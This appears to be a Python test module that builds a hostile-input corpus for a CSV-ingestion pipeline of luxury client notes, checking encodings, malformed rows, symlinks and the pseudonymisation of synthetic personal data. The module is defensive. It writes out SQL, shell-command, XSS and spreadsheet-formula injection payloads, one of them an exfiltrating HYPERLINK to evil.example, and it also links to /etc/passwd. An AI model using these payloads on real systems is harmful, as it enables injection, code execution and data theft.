"""The hostile-input corpus, generated in code (nothing big is stored in the repo).

Each :class:`Case` is a set of files written under ``uploads/<its own upload date>/`` (plus,
for some, symbolic links, files outside the data dir or lines appended to ``transactions.csv``)
and what the pipeline must do with them: whether the partition ingests or fails, how many data
rows become notes, rejected rows or a reported exclusion (``rows_in = notes + rejected +
excluded``), which words the messages about it must contain, which planted personal data must
never reach the warehouse, the outputs, the caches, ``DAGSTER_HOME``, MLflow or the CLI output,
and case-specific checks on the stored rows.

:data:`CLI_CASES` are refusals of the CLI itself (exit code 2, one ``error:`` line on stderr).

Planted personal data uses made-up, unique strings (surnames such as "Quistorpelle") placed
where the documented detector finds them: after a title ("Mme", "Mr.", "Herr", "Signora",
"господин") with or without a filler ("euh", "ähm also", "well."), in e-mails, phones, IBANs
(valid mod-97) and card numbers (valid Luhn), or as a whole client id.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date, timedelta
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # the view is built by the test module from the one shared run
    from lvmh_pipeline_tests.hostile.test_hostile_inputs import CaseView

HEADER = ["ID", "Date", "Duration", "Language", "Length", "Transcription"]
FIRST_UPLOAD = date(2026, 1, 5)  # case i uploads on FIRST_UPLOAD + i days (after the base data's T)
EARLY_UPLOAD = date(2024, 3, 1)  # empty partitions, ingested before anything else


# --- planted personal data -------------------------------------------------------------------

def iban(country: str, bban: str) -> str:
    """A valid IBAN (ISO 13616 mod-97 check digits) for ``bban``."""
    digits = "".join(str(int(c, 36)) for c in bban + country + "00")
    return f"{country}{98 - int(digits) % 97:02d}{bban}"


def luhn(prefix: str) -> str:
    """``prefix`` + its Luhn check digit (a card number the detector accepts)."""
    total = 0
    for i, ch in enumerate(reversed(prefix)):
        d = int(ch) * (2 if i % 2 == 0 else 1)
        total += d - 9 if d > 9 else d
    return prefix + str((10 - total % 10) % 10)


def grouped(value: str, size: int = 4) -> str:
    return " ".join(value[i : i + size] for i in range(0, len(value), size))


SURNAME_FR = "Quistorpelle"
SURNAME_DE = "Kranzlmeier"
SURNAME_EN = "Hapsworthy"
SURNAME_IT = "Bellavitruzzi"
SURNAME_RU = "Звягинцевич"
SURNAME_OUTSIDE = "Ostrowendel"  # only in files outside the data dir (symlink targets)
SURNAME_ID = "Vantroutelle"  # a client id that is a name
EMAIL_TEXT = "zorbelline.vantrout@example.org"
EMAIL_ID = "maximilienne.brockhurst@example.net"
EMAIL_DATE = "hortensia.pulvermacher@example.com"
EMAIL_TX = "leopoldine.fairweatherby@example.org"
EMAIL_HEADER = "gwendolyn.obersturz@example.com"
PHONE_TEXT = "+33 6 48 27 19 53"
PHONE_ID = "+44 7700 983 514"
PHONE_DURATION = "+49 151 2948 3771"
PHONE_TX = "+33 7 81 42 96 05"
IBAN_TEXT = iban("FR", "30004028370001234567890")
IBAN_ID = iban("DE", "370400440532013007")
IBAN_LENGTH = iban("IT", "X0542811101000000123456")
CARD_TEXT = luhn("497010123456789")
ADDRESS_KO = "테헤란로 152"
ADDRESS_RU = "ул. Тверская, д. 17"


def pii_variants(value: str) -> set[str]:
    """The forms a planted value could take once stored: as written, without spaces or
    separators (phones, IBANs, cards)."""
    forms = {value}
    compact = "".join(ch for ch in value if ch.isalnum() or ch in "@.")
    if any(ch.isdigit() for ch in value) and "@" not in value:
        forms |= {compact, compact.lstrip("+")}
    return {form for form in forms if len(form) >= 6}


# --- building files ---------------------------------------------------------------------------

def csv_field(value: str, delimiter: str = ",") -> str:
    """One CSV field, quoted when it needs to be (RFC 4180)."""
    if any(ch in value for ch in (delimiter, '"', "\n", "\r")) or value != value.strip():
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_text(rows: list[list[str]], header: list[str] | None = HEADER, delimiter: str = ",",
             newline: str = "\n") -> str:
    lines = [header] if header is not None else []
    lines += rows
    return "".join(delimiter.join(csv_field(v, delimiter) for v in row) + newline for row in lines)


EN_NOTES = (
    "Looking for a black leather travel bag, budget around 4K, birthday of her husband in May.",
    "Wants a silk scarf in navy blue as a gift, budget 800 euros, follow up next week.",
    "Interested in a gold watch for his retirement in June, budget 10-12K, vegetarian.",
    "Came back for the red handbag, loves Italian leather, budget 3K, call in two weeks.",
    "Asked about new sneakers collection, budget 1K, allergic to nickel, will return.",
)


def row(client: str, day: str, text: str, language: str = "EN", duration: str = "30 min",
        length: str = "medium") -> list[str]:
    return [client, day, duration, language, length, text]


def good_rows(prefix: str, n: int, day: str) -> list[list[str]]:
    return [row(f"{prefix}_{k + 1}", day, EN_NOTES[k % len(EN_NOTES)] + f" Ref {prefix}-{k + 1}.")
            for k in range(n)]


def png_bytes() -> bytes:
    """A valid 1x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def zip_bytes(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return buffer.getvalue()


# --- cases ------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Link:
    """A symbolic link ``name`` (relative to the case's upload folder; ``"."`` = the folder
    itself) to ``target``: ``outside:<path>`` under the test root but outside the data dir,
    ``data:<path>`` inside the data dir, or an absolute path."""

    name: str
    target: str


@dataclass(frozen=True)
class Expect:
    """What the pipeline must do with a case."""

    ingest: str = "ok"  # "ok" | "failed" | "absent" (nothing readable: the date never becomes a partition)
    notes: int = 0
    rejected: int = 0
    excluded: int = 0  # data rows in files that are reported and not read (documented exclusion)
    messages: tuple[str, ...] = ()  # substrings of the messages about this case (errors, warnings)
    reasons: dict[int, str] = field(default_factory=dict)  # rejected source_line -> reason substring


@dataclass(frozen=True)
class Case:
    name: str
    what: str
    files: dict[str, bytes]
    rows_in: int  # data records written in the case's files (header lines not counted)
    expect: Expect
    planted: tuple[str, ...] = ()  # personal data that must appear nowhere but uploads/ and private/
    links: tuple[Link, ...] = ()
    outside: dict[str, bytes] = field(default_factory=dict)  # files under <root>/outside/
    transactions: tuple[list[str], ...] = ()  # rows appended to <data>/transactions.csv
    check: Callable[[CaseView], None] | None = None
    early: bool = False  # uploaded before every other date (first partition of the warehouse)
    upload_date: str = ""


def _text(view: CaseView) -> str:
    return " ".join(view.notes["text"].tolist())


def _check_header_only(view: CaseView) -> None:
    assert view.materialized_rows("notes") == 0, view.messages
    assert view.table_exists("notes") and view.table_exists("rejected_notes")


def _check_blank(view: CaseView) -> None:
    assert view.materialized_rows("notes") == 0, view.messages


def _check_encodings(expected: dict[str, str]) -> Callable[[CaseView], None]:
    def check(view: CaseView) -> None:
        texts = dict(zip(view.notes["client_id"], view.notes["text"], strict=True))
        for client, fragment in expected.items():
            assert fragment in texts[client], (client, texts[client])
        assert not view.notes["text"].str.contains("\ufffd|Ã©|â‚¬", regex=True).any()
    return check


def _check_semicolon(view: CaseView) -> None:
    assert view.notes["text"].str.contains("scarf, navy blue, silk", regex=False).sum() == 2


def _check_multiline(view: CaseView) -> None:
    notes = view.notes.set_index("client_id")
    assert "first line\n\nthird line" in notes.loc["ML_1", "text"]
    assert 'said "budget 2K"' in notes.loc["ML_2", "text"]
    assert notes["source_line"].to_dict() == {"ML_1": 2, "ML_2": 6, "ML_3": 9}


def _check_mixed(view: CaseView) -> None:
    notes = view.notes.set_index("client_id")
    assert notes["mixed_encoding"].to_dict() == {"MX_1": False, "MX_2": True, "MX_3": False, "MX_4": True}
    assert "très fidèle" in notes.loc["MX_1", "text"] and "Écharpe" in notes.loc["MX_2", "text"]
    assert "€" in notes.loc["MX_4", "text"] and "cœur" in notes.loc["MX_4", "text"]


def _check_scripts(samples: dict[str, str]) -> Callable[[CaseView], None]:
    def check(view: CaseView) -> None:
        texts = dict(zip(view.notes["client_id"], view.notes["text"], strict=True))
        assert texts == samples
        assert view.notes["language"].str.fullmatch("[A-Z]{2}").all()
    return check


def _check_sql(view: CaseView) -> None:
    assert "'); DROP TABLE lvmh.notes; --" in _text(view)
    assert "x' OR '1'='1" in set(view.notes["client_id"])
    for table in ("notes", "rejected_notes", "note_concepts", "client_profiles"):
        assert view.table_exists(table), table


def _check_idempotent(view: CaseView) -> None:
    first, second = view.rerun
    assert first == second, "re-ingesting the same files changed the partition"


def _check_oversized(view: CaseView) -> None:
    raw = view.rejected.iloc[0]["raw_text"]
    assert len(raw) < 3_000 and "[NAME]" in raw


def _check_odd_names(names: list[str]) -> Callable[[CaseView], None]:
    def check(view: CaseView) -> None:
        stored = {name.rsplit("/", 1)[-1] for name in view.notes["source_file"]}
        assert stored == set(names)
        assert not list(view.root.rglob("PWNED*")), "a file name was run by a shell"
        assert view.table_exists("notes")
    return check


def _check_pseudonymized_ids(view: CaseView) -> None:
    ids = view.notes["client_id"].tolist()
    assert all(i.startswith("P-") and len(i) == 18 for i in ids), ids
    assert len(set(ids)) == 4  # the e-mail client's two notes share one pseudonym
    assert (view.data_dir / "private" / "client_id_map.csv").exists()


def _check_formulas(view: CaseView) -> None:
    ids = set(view.notes["client_id"])
    assert {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "=1+2"} <= ids
    written = view.output_csv_cells()
    assert written, "no CSV written under outputs/"
    for client in ids:
        assert client not in written, f"{client!r} written as a formula"
        assert "'" + client in written, f"{client!r} missing from the predictions CSV"


def _check_html(view: CaseView) -> None:
    assert "<script>alert('lvmh')</script>" in _text(view)
    clients = {c["client_id"] for c in view.dashboard()["clients"]}
    assert "<img src=x onerror=alert(1)>" in clients  # data, carried as a JSON string


def _check_pii_columns(view: CaseView) -> None:
    notes = view.notes.set_index("client_id")
    assert notes.loc["PC_2", "duration_min"] != notes.loc["PC_2", "duration_min"]  # NaN: the phone is not a duration
    assert notes.loc["PC_3", "language_detected"]
    assert notes.loc["PC_4", "length"] in ("short", "medium", "long")


def _check_transactions(view: CaseView) -> None:
    labels = view.table("training_labels")
    assert set(labels["as_of"]) == {view.expected_as_of}, "a 2099 order moved the as-of date"
    warnings = [line for line in view.output.splitlines() if "transactions.csv line" in line and "2099-01-15" in line]
    assert warnings and "set aside" in warnings[0], "no warning naming file, line and date of the 2099 order"


def _check_unknown_extensions(view: CaseView) -> None:
    assert set(view.notes["source_file"].str.rsplit("/", n=1).str[-1]) == {"good.csv", "UPPER.CSV", "Mixed.Csv"}


def build_cases() -> list[Case]:
    """Every case, each with its own upload date."""
    cases: list[Case] = []

    def add(case: Case) -> None:
        cases.append(case)

    d = "2025-12-20"  # note date of the cases (after the base data's as-of date)

    # --- reading ---------------------------------------------------------------------------
    add(Case("header_only", "a header and no rows: a valid, empty partition, written first",
             {"header_only.csv": csv_text([]).encode()}, 0,
             Expect(notes=0), check=_check_header_only, early=True))
    add(Case("blank_files", "0-byte, whitespace-only and BOM-only files, nothing else: reported, an empty partition",
             {"empty.csv": b"", "blank.csv": b"\n \r\n\t\n\n", "bom_only.csv": b"\xef\xbb\xbf\r\n"}, 0,
             Expect(notes=0, messages=("empty.csv", "blank.csv", "bom_only.csv", "empty")),
             check=_check_blank, early=True))
    add(Case("empty_next_to_good", "an empty file next to a good one: reported and skipped, the good one read",
             {"empty.csv": b"", "good.csv": csv_text(good_rows("EG", 2, d)).encode()}, 2,
             Expect(notes=2, messages=("empty.csv", "empty"))))
    add(Case("wrong_columns", "no client id / text / date column: the partition fails naming file and columns",
             {"wrong.csv": csv_text([["1", "2", "3"], ["4", "5", "6"]], header=["foo", "bar", "baz"]).encode()}, 2,
             Expect(ingest="failed", excluded=2, messages=("wrong.csv", "no recognizable header", "expected ID,Date"))))
    headerless = good_rows("HL", 2, d)
    headerless[0][5] = f"Rendez-vous avec Mme {SURNAME_FR}, écrire à {EMAIL_HEADER}, budget 3K."
    add(Case("headerless", "data on line 1 (no header): fails naming the file, without echoing the note",
             {"headerless.csv": csv_text(headerless, header=None).encode()}, 2,
             Expect(ingest="failed", excluded=2, messages=("headerless.csv", "no recognizable header")),
             planted=(EMAIL_HEADER,)))
    utf16_rows = [row("U16_1", d, "Cliente très fidèle, écharpe en soie, budget 2 000 €.", "FR"),
                  row("U16_2", d, "Kundin möchte eine Tasche aus Leder, Größe M, Budget 3K.", "DE")]
    add(Case("utf16", "UTF-16 LE and BE with BOM",
             {"le.csv": b"\xff\xfe" + csv_text(utf16_rows[:1]).encode("utf-16-le"),
              "be.csv": b"\xfe\xff" + csv_text(utf16_rows[1:]).encode("utf-16-be")}, 2,
             Expect(notes=2), check=_check_encodings({"U16_1": "écharpe en soie, budget 2 000 €", "U16_2": "Größe"})))
    cp_rows = [row("CP_1", d, "Cœur de la collection: sac à main rouge, budget 1 500 €.", "FR"),
               row("CP_2", d, "Cliente fidèle, préfère le cuir noir, œuvre d'art, anniversaire en août.", "FR")]
    add(Case("cp1252", "Windows-1252 (€, œ, accents)", {"cp1252.csv": csv_text(cp_rows).encode("cp1252")}, 2,
             Expect(notes=2), check=_check_encodings({"CP_1": "Cœur", "CP_2": "préfère le cuir noir, œuvre"})))
    add(Case("utf8_bom", "UTF-8 with BOM: the header is still recognized",
             {"bom.csv": b"\xef\xbb\xbf" + csv_text(good_rows("BOM", 2, d)).encode()}, 2, Expect(notes=2)))
    semi_rows = [row("SC_1", d, "Wants a scarf, navy blue, silk; budget 900 euros."),
                 row("SC_2", d, "Wants a scarf, navy blue, silk, for her mother, budget 1K.")]
    add(Case("semicolon_and_tab", "';' and tab delimiters, commas inside the text",
             {"semi.csv": csv_text(semi_rows[:1], delimiter=";").encode(),
              "tabs.csv": csv_text(semi_rows[1:], delimiter="\t").encode()}, 2,
             Expect(notes=2), check=_check_semicolon))
    multiline = ("ID,Date,Duration,Language,Length,Transcription\r\n"
                 'ML_1,2025-12-20,30 min,EN,medium,"first line\r\n\r\nthird line, budget 2K\r\nlast"\r\n'
                 'ML_2,2025-12-20,30 min,EN,medium,"she said ""budget 2K"" for a bag,\r\nthen left"\r\n'
                 "\r\n"
                 'ML_3,2025-12-20,30 min,EN,medium,"one line, budget 5K, watch"\r\n')
    add(Case("multiline", "quoted multi-line fields, CRLF, doubled quotes, a blank line between records",
             {"multi.csv": multiline.encode()}, 3, Expect(notes=3), check=_check_multiline))
    add(Case("zip_renamed", "a zip archive named .csv: the partition fails naming the file",
             {"export.csv": zip_bytes({"notes.csv": csv_text(good_rows("ZIP", 2, d))})}, 2,
             Expect(ingest="failed", excluded=2, messages=("export.csv", "binary"))))
    add(Case("png_renamed", "a PNG image named .csv: the partition fails naming the file",
             {"photo.csv": png_bytes()}, 0, Expect(ingest="failed", messages=("photo.csv", "binary"))))
    odd = [
        ("OD_1", "31/12/2025", True), ("OD_2", "2025/12/30", True), ("OD_3", "2025-12-29T10:30:00Z", True),
        ("OD_4", "28.12.2025", True), ("OD_5", "2025-2-3", True), ("OD_6", "  2025-12-27  ", True),
        ("OD_7", "2025-02-30", False), ("OD_8", "yesterday", False), ("OD_9", "", False),
        ("OD_10", "12/31/2025", False), ("OD_11", "2025-13-01", False), ("OD_12", "0001-01-01", False),
        ("OD_13", "9999-12-31", False), ("OD_14", "2099-06-01", True), ("OD_15", "2025-12-01 09:15", True),
        ("OD_16", "20251226", False),
    ]
    odd_rows = [row(c, v, EN_NOTES[k % 5] + f" Odd {k}.") for k, (c, v, _) in enumerate(odd)]
    add(Case("odd_dates", "day-first, slashes, dots, timestamps, impossible and out-of-range dates",
             {"dates.csv": csv_text(odd_rows).encode()}, len(odd),
             Expect(notes=sum(ok for *_, ok in odd), rejected=sum(not ok for *_, ok in odd),
                    reasons={8: "unparseable date '2025-02-30'", 9: "unparseable date 'yesterday'",
                             10: "missing date", 11: "unparseable date '12/31/2025'",
                             12: "unparseable date '2025-13-01'", 13: "date 0001-01-01 outside 1900-01-01",
                             14: "date 9999-12-31 outside", 17: "unparseable date '20251226'"})))
    scripts = {
        "SCR_LATN": "Cliente cherche un sac en cuir noir, budget 3K.",
        "SCR_CYRL": "Клиентка ищет кожаную сумку, бюджет 3 тысячи евро.",
        "SCR_GREK": "Η πελάτισσα θέλει μια δερμάτινη τσάντα, προϋπολογισμός 3K.",
        "SCR_ARAB": "العميلة تبحث عن حقيبة جلدية سوداء، الميزانية 3 آلاف يورو.",
        "SCR_HEBR": "הלקוחה מחפשת תיק עור שחור, תקציב 3 אלף יורו.",
        "SCR_DEVA": "ग्राहक को काले चमड़े का बैग चाहिए, बजट 3K.",
        "SCR_THAI": "ลูกค้าต้องการกระเป๋าหนังสีดำ งบประมาณ 3K",
        "SCR_HANG": "고객은 검은 가죽 가방을 원합니다. 예산 3K.",
        "SCR_KANA": "お客様は黒い革のバッグをお探しです。予算は3K。",
        "SCR_HANI": "客户想要一个黑色皮包，预算三千欧元。",
        "SCR_GEOR": "კლიენტს სურს შავი ტყავის ჩანთა, ბიუჯეტი 3K.",
        "SCR_ARMN": "Հաճախորդը ուզում է սև կաշվե պայուսակ, բյուջե 3K. 👜 ‮reversed‬ zero\u200bwidth",
    }
    add(Case("twelve_scripts", "notes in 12 scripts (plus emoji, bidi override, zero-width space)",
             {"scripts.csv": csv_text([row(c, d, t, language="") for c, t in scripts.items()]).encode()},
             len(scripts), Expect(notes=len(scripts)), check=_check_scripts(scripts)))
    sql_rows = [row("SQL_1", d, "Robert'); DROP TABLE lvmh.notes; -- wants a bag, budget 2K."),
                row("x' OR '1'='1", d, "Budget 3K\"; DELETE FROM lvmh.client_profiles WHERE 1=1; --")]
    add(Case("sql_like_text", "SQL in the text and in a client id: stored as data",
             {"sql.csv": csv_text(sql_rows).encode()}, 2, Expect(notes=2), check=_check_sql))
    idem = good_rows("ID", 3, d)
    add(Case("idempotent_rerun", "the same files ingested twice give the same partition; a duplicate across files",
             {"a.csv": csv_text(idem).encode(), "b.csv": csv_text(idem[:1]).encode()}, 4,
             Expect(notes=3, rejected=1, reasons={2: "duplicate of uploads/"}), check=_check_idempotent))
    mixed = (csv_text([row("MX_1", d, "Cliente très fidèle, budget 3K", "FR")]).encode()
             + csv_text([row("MX_2", d, "Écharpe en cachemire, rappeler après Noël", "FR")], header=None).encode("cp1252")
             + csv_text([row("MX_3", d, "Sac en cuir, budget 2K, très pressée", "FR")], header=None).encode()
             + csv_text([row("MX_4", d, "Budget 5 000 €, cœur de collection", "FR")], header=None).encode("cp1252"))
    add(Case("mixed_encoding", "UTF-8 and cp1252 lines in one file: each decoded, cp1252 rows flagged",
             {"mixed.csv": mixed}, 4, Expect(notes=4), check=_check_mixed))
    broken = ("ID,Date,Duration,Language,Length,Transcription\n"
              'UQ_1,2025-12-20,30 min,EN,medium,"Wants a bag, budget 2K."\n'
              'UQ_2,2025-12-20,30 min,EN,medium,"quote never closed, budget 3K\n'
              "and a second line of it\n"
              'UQ_3,2025-12-20,30 min,EN,medium,"Wants a watch, budget 8K."\n'
              'UQ_4,2025-12-20,30 min,EN,medium,"Wants shoes, budget 1K."\n')
    add(Case("unterminated_quote_mid_file", "a quote that never closes mid-file costs only its own lines",
             {"broken.csv": broken.encode()}, 4,
             Expect(notes=3, rejected=1,
                    reasons={3: "unterminated quoted field (lines 3-4; reading resumed at line 5)"})))
    tail = ("ID,Date,Duration,Language,Length,Transcription\n"
            'UE_1,2025-12-20,30 min,EN,medium,"Wants a bag, budget 2K."\n'
            'UE_2,2025-12-20,30 min,EN,medium,"Wants a belt, budget 1K."\n'
            'UE_3,2025-12-20,30 min,EN,medium,"never closed, budget 3K\nstill, the note\n')
    add(Case("unterminated_quote_at_end", "a quote that never closes at the end: its row only",
             {"tail.csv": tail.encode()}, 3,
             Expect(notes=2, rejected=1, reasons={4: "runs to the end of the file"})))
    nul_rows = good_rows("NUL", 3, d)
    nul_rows[1][5] = "Wants a bag\x00 budget 2K."
    add(Case("nul_byte", "one NUL byte in one note rejects that row, not the file",
             {"nul.csv": csv_text(nul_rows).encode()}, 3,
             Expect(notes=2, rejected=1, reasons={3: "NUL byte in the row"})))
    huge = (f"Mme {SURNAME_FR} adore le cuir et les sacs noirs. " * 110_000)[:5_200_000]
    big_rows = good_rows("BIG", 2, d)
    big_rows.insert(1, row("BIG_X", d, huge + f" Contact {EMAIL_TEXT}.", "FR"))
    add(Case("five_mb_note", "a 5 MB note among good rows: that row rejected (100 kB limit), a pseudonymized prefix kept",
             {"big.csv": csv_text(big_rows).encode()}, 3,
             Expect(notes=2, rejected=1, reasons={3: "exceeds the 100,000-byte limit"}),
             planted=(SURNAME_FR, EMAIL_TEXT), check=_check_oversized))
    odd_names = ["notes with spaces.csv", "notes'; DROP TABLE lvmh.notes;--.csv", "$(touch PWNED).csv",
                 "`touch PWNED2`.csv", "-rf.csv", "日本語のノート.csv", "new\nline.csv", "semi;colon,comma.csv",
                 "UPPER.CSV", "Mixed.Csv", ".hidden.csv"]
    add(Case("odd_file_names", "quotes, $(…), backticks, a leading dash, a newline, CJK, .CSV / .Csv in file names",
             {name: csv_text([row(f"FN_{k}", d, EN_NOTES[k % 5])]).encode() for k, name in enumerate(odd_names)},
             len(odd_names), Expect(notes=len(odd_names)), check=_check_odd_names(odd_names)))
    add(Case("unknown_extensions", ".txt, .tsv, .xlsx, .csv.bak and no extension are reported; .csv in any case is read",
             {"good.csv": csv_text(good_rows("UX", 1, d)).encode(),
              "UPPER.CSV": csv_text(good_rows("UXU", 1, d)).encode(),
              "Mixed.Csv": csv_text(good_rows("UXM", 1, d)).encode(),
              "notes.txt": csv_text(good_rows("UXT", 2, d)).encode(),
              "notes.tsv": csv_text(good_rows("UXS", 1, d), delimiter="\t").encode(),
              "notes.csv.bak": csv_text(good_rows("UXB", 1, d)).encode(),
              "README": b"see the csv\n",
              "book.xlsx": zip_bytes({"xl/workbook.xml": "<workbook/>"})}, 7,
             Expect(notes=3, excluded=4, messages=("notes.txt", "notes.tsv", "notes.csv.bak", "README", "book.xlsx",
                                                  "not a .csv file")),
             check=_check_unknown_extensions))
    add(Case("txt_only", "a folder holding only a .txt file: reported, never a partition",
             {"notes.txt": csv_text(good_rows("TXO", 2, d)).encode()}, 2,
             Expect(ingest="absent", excluded=2, messages=("notes.txt", "not a .csv file"))))
    add(Case("nested_folders", "CSV files in sub-folders are reported, not read",
             {"good.csv": csv_text(good_rows("NF", 1, d)).encode(),
              "sub/nested.csv": csv_text(good_rows("NFS", 2, d)).encode(),
              "sub/deeper/more.csv": csv_text(good_rows("NFD", 1, d)).encode()}, 4,
             Expect(notes=1, excluded=3, messages=("sub/", "nested folder"))))

    # --- boundaries ------------------------------------------------------------------------
    secret = csv_text([row("OUT_1", d, f"Mme {SURNAME_OUTSIDE} lives outside the data dir, budget 9K.", "EN")]).encode()
    add(Case("symlink_to_file_outside", "a link to a CSV outside the data dir is refused and reported",
             {"good.csv": csv_text(good_rows("SL", 1, d)).encode()}, 2,
             Expect(notes=1, excluded=1, messages=("linked.csv", "symbolic link")),
             planted=(SURNAME_OUTSIDE,), links=(Link("linked.csv", "outside:secret.csv"),),
             outside={"secret.csv": secret}))
    add(Case("symlink_to_file_inside", "a link to another file of the data dir is refused too",
             {"good.csv": csv_text(good_rows("SLI", 1, d)).encode()}, 1,
             Expect(notes=1, messages=("transactions.csv", "symbolic link")),
             links=(Link("transactions.csv", "data:transactions.csv"),)))
    add(Case("symlink_to_folder", "a link to a folder outside the data dir is refused and reported",
             {"good.csv": csv_text(good_rows("SLF", 1, d)).encode()}, 2,
             Expect(notes=1, excluded=1, messages=("linked_dir", "symbolic link")),
             planted=(SURNAME_OUTSIDE,), links=(Link("linked_dir", "outside:folder"),),
             outside={"folder/inner.csv": secret}))
    add(Case("symlink_to_etc_passwd", "a link to /etc/passwd named .csv is refused",
             {"good.csv": csv_text(good_rows("SLP", 1, d)).encode()}, 1,
             Expect(notes=1, messages=("passwd.csv", "symbolic link")),
             links=(Link("passwd.csv", "/etc/passwd"),), planted=("root:x:0:0",)))
    add(Case("symlinked_upload_folder", "the date folder itself is a link outside the data dir: refused, never a partition",
             {}, 1, Expect(ingest="absent", excluded=1, messages=("symbolic link",)),
             planted=(SURNAME_OUTSIDE,), links=(Link(".", "outside:date_folder"),),
             outside={"date_folder/notes.csv": secret}))

    # --- output safety -----------------------------------------------------------------------
    formula_ids = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
                   "-2+3+cmd|' /C calc'!A0", "\t=1+2"]
    add(Case("spreadsheet_formulas", "formulas in client ids and text: every CSV written neutralizes them",
             {"formulas.csv": csv_text([row(c, d, f"=cmd|' /C calc'!A0 wants a bag, budget {k + 2}K")
                                        for k, c in enumerate(formula_ids)]).encode()}, len(formula_ids),
             Expect(notes=len(formula_ids)), check=_check_formulas))
    html = [row("HT_1", d, "<script>alert('lvmh')</script> wants a black bag, budget 2K"),
            row("<img src=x onerror=alert(1)>", d, "<b>VIP</b> &amp; <a href='javascript:alert(1)'>link</a>, watch 8K")]
    add(Case("html_in_notes", "<script> and HTML in notes and ids: stored as text, dashboard still valid JSON",
             {"html.csv": csv_text(html).encode()}, 2, Expect(notes=2), check=_check_html))

    # --- identifiers and planted personal data ------------------------------------------------
    id_rows = [row(SURNAME_ID.upper() + " Marguerite", d, "Wants a bag, budget 2K."),
               row(EMAIL_ID, d, "Wants a scarf, budget 800 euros."),
               row(EMAIL_ID, "2025-12-21", "Came back for the scarf in red."),
               row(PHONE_ID, d, "Wants a watch, budget 9K."),
               row(grouped(IBAN_ID), d, "Wants shoes, budget 1K.")]
    add(Case("client_id_is_personal", "client ids that are a name, an e-mail, a phone, an IBAN: keyed-hash pseudonyms",
             {"ids.csv": csv_text(id_rows).encode()}, 5, Expect(notes=5),
             planted=(SURNAME_ID, EMAIL_ID, PHONE_ID, IBAN_ID), check=_check_pseudonymized_ids))
    filler_rows = [row("NM_1", d, f"Rendez-vous avec Mme euh {SURNAME_FR}, cherche un sac noir, budget 3K.", "FR"),
                   row("NM_2", d, f"Herr ähm also {SURNAME_DE} sucht eine Uhr, Budget 5K.", "DE"),
                   row("NM_3", d, f"Mr. well. {SURNAME_EN} wants a travel bag, budget 4K.", "EN"),
                   row("NM_4", d, f"Signora {SURNAME_IT} ama la pelle, budget 2K.", "IT"),
                   row("NM_5", d, f"господин {SURNAME_RU} ищет часы, бюджет 9K.", "RU")]
    add(Case("names_after_titles_and_fillers", "names after titles, with or without voice-transcription fillers",
             {"names.csv": csv_text(filler_rows).encode()}, 5, Expect(notes=5),
             planted=(SURNAME_FR, SURNAME_DE, SURNAME_EN, SURNAME_IT, SURNAME_RU)))
    contact_rows = [row("CT_1", d, f"Écrire à {EMAIL_TEXT} ou appeler le {PHONE_TEXT}, budget 3K.", "FR"),
                    row("CT_2", d, f"Virement depuis IBAN {grouped(IBAN_TEXT)}, carte {grouped(CARD_TEXT)}.", "FR")]
    add(Case("contacts_in_text", "e-mail, phone, IBAN and card number in notes",
             {"contacts.csv": csv_text(contact_rows).encode()}, 2, Expect(notes=2),
             planted=(EMAIL_TEXT, PHONE_TEXT, IBAN_TEXT, CARD_TEXT)))
    address_rows = [row("AD_1", d, f"Доставка: {ADDRESS_RU}, кв. 4, Москва. Бюджет 5K.", "RU"),
                    row("AD_2", d, f"배송지: 서울특별시 강남구 {ADDRESS_KO}, 예산 3K.", "KO")]
    add(Case("addresses_korean_cyrillic", "street addresses in Cyrillic and Hangul",
             {"addresses.csv": csv_text(address_rows).encode()}, 2, Expect(notes=2),
             planted=(ADDRESS_RU, ADDRESS_KO)))
    pii_header = HEADER + ["Email"]
    pii_rows = [
        ["PC_1", EMAIL_DATE, "30 min", "EN", "medium", "Wants a bag, budget 2K.", ""],
        ["PC_2", d, PHONE_DURATION, "EN", "medium", "Wants a belt, budget 1K.", ""],
        ["PC_3", d, "30 min", f"Mme {SURNAME_DE}", "medium", "Wants a watch, budget 8K.", ""],
        ["PC_4", d, "30 min", "EN", grouped(IBAN_LENGTH), "Wants shoes, budget 1K.", ""],
        ["PC_5", d, "30 min", "EN", "medium", "Wants a scarf, budget 500.", EMAIL_TEXT],
    ]
    overflow = csv_text(pii_rows, header=pii_header) + f"PC_6,{d},30 min,EN,medium,Wants a bag,{EMAIL_TEXT},{PHONE_TEXT}\n"
    add(Case("pii_in_other_columns", "PII in the date, duration, language, length and extra columns",
             {"columns.csv": overflow.encode()}, 6,
             Expect(notes=4, rejected=2, reasons={2: "unparseable date", 7: "fields but the header has"}),
             planted=(EMAIL_DATE, PHONE_DURATION, SURNAME_DE, IBAN_LENGTH, EMAIL_TEXT, PHONE_TEXT),
             check=_check_pii_columns))
    bad_rows = [row("", d, "No client id, budget 2K."), row("BR_2", d, ""), row("BR_3", d, "   \n  "),
                row("BR_4", d, "Wants a bag, budget 2K.")]
    add(Case("bad_rows", "missing id, empty and blank text: rejected with line and reason",
             {"bad.csv": csv_text(bad_rows).encode()}, 4,
             Expect(notes=1, rejected=3, reasons={2: "missing client id", 3: "empty transcription",
                                                 4: "empty transcription"})))
    add(Case("transactions_2099", "transactions.csv with an order dated 2099, a personal client id and a PII amount",
             {"tx.csv": csv_text(good_rows("TX", 1, d)).encode()}, 1, Expect(notes=1),
             transactions=(["CL_000001", "ORD_FUTURE_1", "2099-01-15", "P0001", "1", "2500.00"],
                           [EMAIL_TX, "ORD_MAIL_1", "2025-06-01", "P0002", "1", "900.00"],
